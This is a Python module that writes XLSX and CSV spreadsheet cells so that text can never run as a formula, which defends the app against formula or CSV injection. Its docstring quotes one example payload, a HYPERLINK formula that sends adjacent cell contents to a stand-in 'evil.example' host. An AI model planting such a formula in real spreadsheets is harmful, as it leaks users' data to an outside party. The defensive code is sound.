"""Every cell of every spreadsheet the app writes, XLSX or CSV: text stays text.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab
or carriage return before one) as a formula. A narrative such as
``=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")`` or a project name starting with
``=`` would become a live formula that sends the cells beside it anywhere (formula or
"CSV injection", OWASP). So every producer writes its cells through this module:

- XLSX: text is a string cell (``data_type`` "s"), which no program evaluates. Text that
  starts like a formula also gets Excel's "quote prefix" style, as if typed with a
  leading ``'``, so that editing the cell does not turn it into one either. The text
  itself is unchanged: the plan export reads back exactly as it was written. Characters
  an XLSX file cannot hold (controls other than tab and line ends) are dropped.
- CSV has no cell types: text that starts like a formula gets a leading ``'`` (OWASP).
- Numbers (int, Decimal, float), booleans and dates stay numbers, booleans and dates.

Producers: projects/imports/workbook_write.py (template and plan export), reports/xlsx.py
(agency and whole-BMA reports), reports/dashboard_export.py (dashboard CSV and XLSX);
tests/hostile/test_spreadsheet_formulas.py walks each of them.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet.worksheet import Worksheet

# What a spreadsheet program may read as the start of a formula (OWASP's list).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

# Values written as themselves (bool is an int, datetime a date).
_TYPED = (int, float, Decimal, dt.date, dt.time, dt.timedelta)


def starts_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_START)


# --- XLSX -------------------------------------------------------------------------------


def set_value(cell: Cell, value) -> Cell:
    """Put ``value`` in ``cell``: text as a string cell, never a formula."""
    if value is None or isinstance(value, _TYPED):
        cell.value = value
        return cell
    text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
    cell.value = text  # openpyxl types "=…" as a formula and "#N/A" as an error…
    cell.data_type = "s"  # …and this makes it text again
    if starts_like_formula(text):
        cell.quotePrefix = True
    return cell


def write(sheet: Worksheet, *, row: int, column: int, value) -> Cell:
    """``sheet.cell(row, column, value)`` through ``set_value``."""
    return set_value(sheet.cell(row=row, column=column), value)


def write_formula(sheet: Worksheet, *, row: int, column: int, formula: str) -> Cell:
    """A formula the application itself composed (never text from data): the month's
    workbook computes the percent of each row for reference (projects/imports/
    month_write.py); the server recomputes it and never reads it back."""
    if not formula.startswith("="):
        raise ValueError("a formula starts with =")
    cell = sheet.cell(row=row, column=column)
    cell.value = formula
    cell.data_type = "f"
    return cell


def append(sheet: Worksheet, values: Iterable) -> None:
    """``sheet.append(values)`` through ``set_value`` (an empty list is an empty row)."""
    sheet.append([set_value(Cell(sheet), value) for value in values])


# --- CSV --------------------------------------------------------------------------------


def csv_field(value) -> str:
    if value is None:
        return ""
    if isinstance(value, _TYPED):
        return str(value)
    text = str(value)
    return "'" + text if starts_like_formula(text) else text


def csv_bytes(rows: Iterable[Sequence]) -> bytes:
    """UTF-8 with a byte-order mark, so that Excel opens the Thai text as Thai."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow([csv_field(value) for value in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")
